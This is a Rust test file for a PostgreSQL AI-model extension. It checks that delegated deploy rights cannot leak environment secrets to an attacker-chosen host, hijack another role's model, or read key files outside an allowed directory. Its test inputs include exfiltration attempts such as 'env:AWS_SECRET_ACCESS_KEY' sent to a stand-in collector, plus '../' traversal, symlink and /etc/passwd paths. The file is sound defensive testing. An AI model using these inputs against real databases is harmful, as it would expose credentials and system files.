//! Deploying delegated to a role grants exactly that: it cannot make the server read an
//! environment variable or file the superuser did not allow, send anything to a host the
//! superuser did not allow, or take over a model another role deployed.

mod common;

use bailian_standin::Config;
use common::*;
use std::os::unix::fs::PermissionsExt;

const DEPLOY_FN: &str =
    "ai_deploy_model(text, text, text, jsonb, int, float8, float8, float8, text, text, boolean, int, int, text, text, boolean, boolean)";

fn grant_deploy(c: &mut postgres::Client, roles: &str) {
    c.batch_execute(&format!("GRANT EXECUTE ON FUNCTION {DEPLOY_FN}, ai_undeploy_model(text) TO {roles}"))
        .unwrap();
}

/// The attack the allow-lists stop: deploy `env:SOMETHING` with base_url pointing at a host
/// of one's own, call the model, read the "key" from the request.
#[test]
fn a_deployer_cannot_exfiltrate_the_environment() {
    let (mut c, db) = fresh_db("delegation_env");
    fresh_role(&mut c, "dlg_deployer", "");
    grant_deploy(&mut c, "dlg_deployer");
    // The collector plays the attacker's host: it records the Authorization header's hint.
    let collector = standin();
    let mut d = connect_as(&db, "dlg_deployer");
    for var in ["HOME", "PGDATA", "PATH", "PGPASSWORD", "AWS_SECRET_ACCESS_KEY"] {
        let sql = format!(
            "SELECT ai_deploy_model('x', 'qwen-plus', 'env:{var}', base_url => '{}')",
            collector.base_url()
        );
        let (code, msg) = error_of(d.batch_execute(&sql));
        assert_eq!(code, "42501", "{var}: {msg}");
        assert!(msg.contains("is not allowed as an API key by pg_bailian.allowed_env_keys"), "{msg}");
    }
    assert_eq!(collector.stats().requests, 0);

    // The hosts: loopback is listed in this test cluster (scripts/lib.sh); with the default
    // list, set for this role by a superuser, the same deploy is refused.
    c.batch_execute(&format!(
        "ALTER ROLE dlg_deployer IN DATABASE {db} SET pg_bailian.allowed_hosts = 'dashscope.aliyuncs.com'"
    ))
    .unwrap();
    let mut d = connect_as(&db, "dlg_deployer");
    let (code, msg) = error_of(d.batch_execute(&format!(
        "SELECT ai_deploy_model('y', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => '{}')",
        collector.base_url()
    )));
    assert_eq!(code, "42501");
    assert!(msg.starts_with("base_url http://127.0.0.1:"), "{msg}");
    // Setting the list oneself is refused, also before the library is loaded (a placeholder
    // set by a role without the right is discarded when the real setting is defined).
    let mut fresh = connect_as(&db, "dlg_deployer");
    let _ = fresh.batch_execute("SET pg_bailian.allowed_hosts = '127.0.0.1'");
    let (code, _) = error_of(fresh.batch_execute(&format!(
        "SELECT ai_deploy_model('z', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => '{}')",
        collector.base_url()
    )));
    assert_eq!(code, "42501", "the placeholder widened the host list");
    let (code, _) = error_of(fresh.batch_execute("SET pg_bailian.allowed_hosts = '127.0.0.1'"));
    assert_eq!(code, "42501");
    // A superuser may use any host.
    c.batch_execute(&format!(
        "SELECT ai_deploy_model('admin', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => '{}')",
        collector.base_url()
    ))
    .unwrap();
    assert_eq!(collector.stats().requests, 0);
}

/// Narrowing pg_bailian.allowed_hosts also stops models a non-superuser deployed before; a
/// superuser's models are not bound by the list.
#[test]
fn narrowing_the_host_list_applies_to_deployed_models() {
    let (mut c, db) = fresh_db("delegation_narrow");
    let s = standin();
    fresh_role(&mut c, "dlg_narrow", "");
    grant_deploy(&mut c, "dlg_narrow");
    let mut d = connect_as(&db, "dlg_narrow");
    d.batch_execute(&format!(
        "SELECT ai_deploy_model('theirs', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => '{}')",
        s.base_url()
    ))
    .unwrap();
    deploy(&mut c, &s, "admins", "qwen-plus", "");
    assert_eq!(
        one_text(&mut c, "SELECT ai_gen('theirs', 'before')").as_deref(),
        Some("Echo from qwen-plus: before")
    );
    c.batch_execute(&format!("ALTER DATABASE {db} SET pg_bailian.allowed_hosts = 'dashscope.aliyuncs.com'"))
        .unwrap();
    let mut user = connect(&db);
    let (code, msg) = error_of(user.query_one("SELECT ai_gen('theirs', 'after')", &[]));
    assert_eq!(code, "42501");
    assert!(
        msg.starts_with("model \"theirs\" was deployed by role \"dlg_narrow\": base_url http://127.0.0.1:"),
        "{msg}"
    );
    assert_eq!(
        one_text(&mut user, "SELECT ai_gen('admins', 'after')").as_deref(),
        Some("Echo from qwen-plus: after")
    );
    assert_eq!(s.stats().requests, 2, "nothing was sent for the refused call");
}

/// A role cannot redirect another role's model (replace => true with its own base_url) nor
/// remove it; the owner's members and superusers can.
#[test]
fn a_deployer_cannot_take_over_another_roles_model() {
    let (mut c, db) = fresh_db("delegation_owner");
    let real = standin();
    let evil = standin();
    fresh_role(&mut c, "dlg_alice", "");
    fresh_role(&mut c, "dlg_mallory", "");
    fresh_role(&mut c, "dlg_alice_team", "IN ROLE dlg_alice");
    grant_deploy(&mut c, "dlg_alice, dlg_mallory, dlg_alice_team");
    c.batch_execute("CREATE TABLE public.answers (id int PRIMARY KEY, body text, answer text); GRANT ALL ON public.answers TO PUBLIC")
        .unwrap();
    let mut alice = connect_as(&db, "dlg_alice");
    alice
        .batch_execute(&format!(
            "SELECT ai_deploy_model('shared', 'qwen-plus', '{}', base_url => '{}')",
            key("alice"),
            real.base_url()
        ))
        .unwrap();
    let mut mallory = connect_as(&db, "dlg_mallory");
    let (code, msg) = error_of(mallory.batch_execute(&format!(
        "SELECT ai_deploy_model('shared', 'qwen-plus', '{}', base_url => '{}', replace => true)",
        key("mallory"),
        evil.base_url()
    )));
    assert_eq!((code.as_str(), msg.as_str()), ("42501", "model \"shared\" was deployed by role \"dlg_alice\"; only that role, its members or a superuser may replace it"));
    let (code, _) = error_of(mallory.batch_execute("SELECT ai_undeploy_model('shared')"));
    assert_eq!(code, "42501");
    // Users' prompts still go where alice deployed them.
    assert_eq!(
        one_text(&mut c, "SELECT ai_gen('shared', 'hello')").as_deref(),
        Some("Echo from qwen-plus: hello")
    );
    assert_eq!((real.stats().requests, evil.stats().requests), (1, 0));
    // A member of alice's role manages her models.
    let mut team = connect_as(&db, "dlg_alice_team");
    team.batch_execute(&format!(
        "SELECT ai_deploy_model('shared', 'qwen-max', '{}', base_url => '{}', replace => true)",
        key("team"),
        real.base_url()
    ))
    .unwrap();
    let removed: bool = team.query_one("SELECT ai_undeploy_model('shared')", &[]).unwrap().get(0);
    assert!(removed);
}

/// file: keys: read at call time from under pg_bailian.key_directory, never from elsewhere.
#[test]
fn file_keys_are_read_from_the_key_directory_only() {
    let (mut c, db) = fresh_db("delegation_file");
    let secret = key("fromfile");
    let s = standin_with(Config { accepted_keys: Some(vec![secret.clone()]), ..Config::default() });
    let dir = std::env::temp_dir().join(format!("pg_bailian_keys_{}", std::process::id()));
    let keys = dir.join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(keys.join("chat.key"), format!("{secret}\n")).unwrap();
    std::fs::write(dir.join("outside.key"), format!("{secret}\n")).unwrap();
    std::os::unix::fs::symlink(dir.join("outside.key"), keys.join("link.key")).unwrap();
    // The server's user must read them; nobody else needs to.
    for p in [&dir, &keys] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    for f in [keys.join("chat.key"), dir.join("outside.key")] {
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    c.batch_execute(&format!("ALTER DATABASE {db} SET pg_bailian.key_directory = '{}'", keys.display()))
        .unwrap();
    fresh_role(&mut c, "dlg_filer", "");
    grant_deploy(&mut c, "dlg_filer");
    let mut d = connect_as(&db, "dlg_filer");
    d.batch_execute(&format!(
        "SELECT ai_deploy_model('chat', 'qwen-plus', 'file:{}', base_url => '{}')",
        keys.join("chat.key").display(),
        s.base_url()
    ))
    .unwrap();
    assert_eq!(
        one_text(&mut d, "SELECT ai_gen('chat', 'from a file')").as_deref(),
        Some("Echo from qwen-plus: from a file")
    );
    assert_eq!(s.stats().by_status.get(&200), Some(&1));
    let hint: String =
        d.query_one("SELECT key_hint FROM ai_models WHERE model_name = 'chat'", &[]).unwrap().get(0);
    assert_eq!(hint, format!("file:{}", keys.join("chat.key").display()));
    for (path, expected) in [
        (keys.join("../outside.key"), "is not inside pg_bailian.key_directory"),
        (keys.join("link.key"), "is not inside pg_bailian.key_directory"),
        (std::path::PathBuf::from("/etc/passwd"), "is not inside pg_bailian.key_directory"),
    ] {
        let (code, msg) = error_of(
            d.batch_execute(&format!("SELECT ai_deploy_model('x', 'qwen-plus', 'file:{}')", path.display())),
        );
        assert_eq!(code, "42501", "{}: {msg}", path.display());
        assert!(msg.contains(expected), "{msg}");
        assert!(!msg.contains(&secret[3..]) && !msg.contains("root:"), "{msg}");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}
